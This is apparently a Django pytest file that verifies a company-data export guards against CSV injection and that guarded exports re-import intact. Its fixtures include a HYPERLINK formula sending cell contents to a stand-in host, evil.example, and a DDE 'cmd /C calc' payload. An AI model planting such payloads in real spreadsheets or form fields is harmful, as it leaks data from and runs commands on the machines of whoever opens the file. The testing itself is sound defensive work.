"""Exports never carry a member's typed formula into the coordinator's spreadsheet (CSV injection),
and an exported file imports back unchanged."""

import csv
import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import load_workbook

from renkei.conftest_helpers import login, run_worker
from renkei.imports.models import ImportJob, ImportStatus
from renkei.orgs.services import update_company

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"詳細")'


def _poison(company):
    return update_company(
        actor=None,
        company=company,
        profile=HOSTILE,
        address="+cmd|' /C calc'!A0",
        phone="@SUM(1+1)",
        name_en="-2+3",
    )


def _csv_cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


@pytest.mark.django_db
def test_csv_export_writes_formula_like_cells_as_text(client, group, alice, aoki):
    _poison(aoki)
    login(client, alice)
    data = client.get(reverse("imports:export", args=[group.slug, "companies", "csv"])).content
    header, row = _csv_cells(data)[:2]
    cells = dict(zip(header, row, strict=True))
    assert cells["紹介文"] == "'" + HOSTILE
    assert cells["住所"].startswith("'+cmd")
    assert cells["電話"] == "'@SUM(1+1)"
    assert cells["英語名"] == "'-2+3"
    assert cells["従業員数"] == "24"  # a number stays a number
    assert not any(value.startswith(("=", "+", "-", "@")) for value in row)


@pytest.mark.django_db
def test_xlsx_export_stores_typed_formulas_as_strings(client, group, alice, aoki):
    _poison(aoki)
    login(client, alice)
    data = client.get(reverse("imports:export", args=[group.slug, "all", "xlsx"])).content
    sheet = load_workbook(io.BytesIO(data)).worksheets[0]
    cells = {header.value: cell for header, cell in zip(sheet[1], sheet[2], strict=True)}
    assert cells["紹介文"].data_type == "s"
    assert cells["紹介文"].value == HOSTILE
    assert cells["従業員数"].data_type == "n" and cells["従業員数"].value == 24
    assert b"<f>" not in _sheet_xml(data)  # no formula anywhere in the workbook


def _sheet_xml(data: bytes) -> bytes:
    import zipfile

    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return b"".join(
            archive.read(name) for name in archive.namelist() if name.startswith("xl/worksheets/")
        )


@pytest.mark.django_db(databases="__all__", transaction=True)
def test_an_exported_csv_with_guarded_cells_imports_back_unchanged(client, group, alice, aoki):
    _poison(aoki)
    login(client, alice)
    exported = client.get(reverse("imports:export", args=[group.slug, "companies", "csv"])).content
    upload = SimpleUploadedFile("again.csv", exported, content_type="text/csv")
    client.post(reverse("imports:group", args=[group.slug]), {"kind": "companies", "file": upload})
    run_worker()
    job = ImportJob.objects.get()
    assert job.status == ImportStatus.DONE, job.problems
    aoki.refresh_from_db()
    assert aoki.profile == HOSTILE
    assert aoki.address == "+cmd|' /C calc'!A0"
    assert aoki.phone == "@SUM(1+1)"
    assert aoki.name_en == "-2+3"
